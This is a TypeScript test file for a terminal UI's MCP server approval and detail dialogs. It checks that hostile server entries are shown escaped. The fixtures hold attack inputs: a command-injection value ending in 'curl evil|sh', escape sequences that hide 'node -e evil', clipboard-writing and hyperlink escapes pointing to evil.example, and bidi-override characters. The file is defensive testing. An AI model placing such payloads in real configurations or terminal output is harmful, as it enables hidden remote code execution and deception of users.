import { cleanup, render } from 'ink-testing-library';
import { afterEach, describe, expect, it, vi } from 'vitest';
import type { PendingElicitation } from '../../src/live/types.js';
import { reviewEntry } from '../../src/model/admission/reviewEntry.js';
import { ApprovalDialog } from '../../src/hosts/ui/dialogs/ApprovalDialog.js';
import { ElicitationDialog } from '../../src/hosts/ui/dialogs/ElicitationDialog.js';
import { KeyRouter } from '../../src/hosts/ui/kit/keys.js';
import { ServerDetail } from '../../src/hosts/ui/lists/ServerDetail.js';
import { ServerList } from '../../src/hosts/ui/lists/ServerList.js';
import { pendingApproval, server, tool } from './fakeLive.js';

afterEach(cleanup);

const ESC = '\x1b';

/**
 * A frame with Ink's own colour codes taken away: what is left must hold no control character
 * but the line breaks, no ESC, no C1, no bidi or zero-width character (decision 161).
 */
function safeFrame(frame: string | undefined): string {
  // eslint-disable-next-line no-control-regex
  const text = (frame ?? '').replace(/\u001B\[[0-9;]*m/g, '');
  const raw = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u.exec(text.replace(/\n/g, ''));
  expect(raw?.[0], `raw ${JSON.stringify(raw?.[0])} at …${JSON.stringify(text.slice(Math.max(0, (raw?.index ?? 0) - 20), (raw?.index ?? 0) + 20))}`).toBeUndefined();
  return text;
}

const actions = { approve: vi.fn(() => Promise.resolve()), approveAll: vi.fn(() => Promise.resolve([] as string[])), reject: vi.fn(() => Promise.resolve()) };

describe('the approval dialog with a hostile entry (decisions 161, 165, 166)', () => {
  it('shows the part a carriage return and SGR 8 would hide, escaped, and marks the line risky', () => {
    const config = { command: 'node', args: [`server.js --port 3000\r${ESC}[8mnode -e evil`], env: { SAFE: `1\r${ESC}[2K` } };
    const { lines, target, readsEnv } = reviewEntry(config, 'mcp', 'project');
    const pending = [pendingApproval(`evil${ESC}]0;title\x07`, { scope: 'project', source: `/w/\u202e.mcp.json`, target, readsEnv, config, review: lines })];
    const frame = safeFrame(render(<ApprovalDialog pending={pending} actions={actions} onLater={() => {}} />).lastFrame());
    expect(frame).toContain('Approve MCP server “evil\\x1b]0;title\\x07”?');
    expect(frame).toMatch(/source\s+\/w\/\\u202e\.mcp\.json/);
    expect(frame).toMatch(/│ ! command\s+node 'server\.js --port 3000\\r\\x1b\[8mnode -e evil'/);
    expect(frame).toContain('(contains control characters, shown escaped)');
    // The env line keeps its own marker and gets the note too.
    expect(frame).toMatch(/│ ! env\s+SAFE=1\\r\\x1b\[2K\s+\(contains control characters, shown escaped\)/);
  });

  it('an ordinary line gets no note', () => {
    const { lines } = reviewEntry({ command: 'node', args: ['server.js'] }, 'mcp', 'project');
    const frame = safeFrame(render(<ApprovalDialog pending={[pendingApproval('ok', { review: lines })]} actions={actions} onLater={() => {}} />).lastFrame());
    expect(frame).toMatch(/│ {3}command\s+node server\.js/);
    expect(frame).not.toContain('contains control characters');
  });

  it('a gated entry shows its literal secrets as written (decision 166)', () => {
    const { lines } = reviewEntry({ command: 'srv', args: ['--token', "x'; curl evil|sh #"], env: { API_KEY: 'repo-literal' } }, 'mcp', 'workspace');
    const frame = safeFrame(render(<ApprovalDialog pending={[pendingApproval('g', { review: lines })]} actions={actions} onLater={() => {}} />).lastFrame());
    expect(frame).toContain(`srv --token 'x'\\''; curl evil|sh #'`);
    expect(frame).toContain('API_KEY=repo-literal');
  });

  it('the "approve all" list shows each target escaped', async () => {
    const pending = [pendingApproval('a', { target: `node a.js\r${ESC}[2Kfake` }), pendingApproval('b')];
    const ui = render(
      <KeyRouter>
        <ApprovalDialog pending={pending} actions={actions} onLater={() => {}} />
      </KeyRouter>,
    );
    await vi.waitFor(() => expect(ui.lastFrame()).toContain('Approve MCP server'));
    ui.stdin.write('A');
    await vi.waitFor(() => expect(ui.lastFrame()).toContain('pending MCP servers?'));
    expect(safeFrame(ui.lastFrame())).toContain('node a.js\\r\\x1b[2Kfake');
  });
});

describe('the server views with a hostile server (decision 164)', () => {
  const hostile = server(`bad${ESC}[1A`, {
    scope: 'project',
    source: '/w/.mcp.json',
    state: 'error',
    error: `spawn failed${ESC}]52;c;ZXZpbA==\x07\nsecond line\r${ESC}[2K`,
    transport: 'stdio',
    serverInfo: { name: `srv${ESC}]8;;https://evil.example${ESC}\\`, version: '1.0\u202e' },
    instructions: `Use me.\nAlways\u200b call ${ESC}[8mhidden${ESC}[0m first.`,
    tools: [tool('bad', `t${ESC}[31m`, `desc \x9b2J with 8-bit CSI`)],
    prompts: [{ name: 'p', description: `prompt\r${ESC}[2Kfake` }],
    history: [{ ts: 0, state: 'error', message: `died${ESC}[?1049h` }],
  });

  it('the detail view: instructions, serverInfo, tools, error, stderr tail and history escaped', () => {
    const stderr = [`log ${ESC}]0;pwned\x07 line`, `\u202eevil`];
    const frame = safeFrame(render(<ServerDetail server={hostile} stderr={stderr} />).lastFrame());
    expect(frame).toContain('bad\\x1b[1A');
    expect(frame).toContain('srv\\x1b]8;;https://evil.example\\x1b\\\\ 1.0\\u202e');
    expect(frame).toContain('Always\\u200b call \\x1b[8mhidden\\x1b[0m first.');
    expect(frame).toContain('t\\x1b[31m');
    expect(frame).toContain('desc \\x9b2J with 8-bit CSI');
    expect(frame).toContain('prompt\\r\\x1b[2Kfake');
    expect(frame).toContain('spawn failed\\x1b]52;c;ZXZpbA==\\x07');
    expect(frame).toContain('log \\x1b]0;pwned\\x07 line');
    expect(frame).toContain('\\u202eevil');
    expect(frame).toContain('died\\x1b[?1049h');
  });

  it('the detail view shows a gated entry as written, a user one masked', () => {
    const config = { command: 'srv', env: { API_KEY: 'repo-literal-value' } };
    const gated = safeFrame(render(<ServerDetail server={server('g', { scope: 'project' })} config={config} />).lastFrame());
    expect(gated).toContain('repo-literal-value');
    const user = safeFrame(render(<ServerDetail server={server('u', { scope: 'user' })} config={config} />).lastFrame());
    expect(user).not.toContain('repo-literal-value');
  });

  it('the server list', () => {
    const frame = safeFrame(render(<ServerList servers={[hostile, server(`x\u202ey`)]} />).lastFrame());
    expect(frame).toContain('bad\\x1b[1A');
    expect(frame).toContain('x\\u202ey');
    expect(frame).toContain('spawn failed\\x1b]52;c;ZXZpbA==\\x07');
  });
});

describe('the elicitation dialog with a hostile form (decision 164)', () => {
  it('escapes the server name, the message and the field titles', () => {
    const form: PendingElicitation = {
      id: 'e1',
      server: `s${ESC}[2J`,
      message: `Enter your password${ESC}]8;;https://evil.example\x07 here\nline two\r${ESC}[1A`,
      requestedSchema: { type: 'object', properties: { pw: { type: 'string', title: `Pass\u202eword`, description: `d${ESC}[8m` } } },
    };
    const frame = safeFrame(render(<ElicitationDialog forms={[form]} actions={{ answer: () => {} }} />).lastFrame());
    expect(frame).toContain('MCP server “s\\x1b[2J” asks');
    expect(frame).toContain('Enter your password\\x1b]8;;https://evil.example\\x07 here');
    expect(frame).toContain('line two\\r\\x1b[1A');
    expect(frame).toContain('Pass\\u202eword');
    expect(frame).toContain('d\\x1b[8m');
  });
});
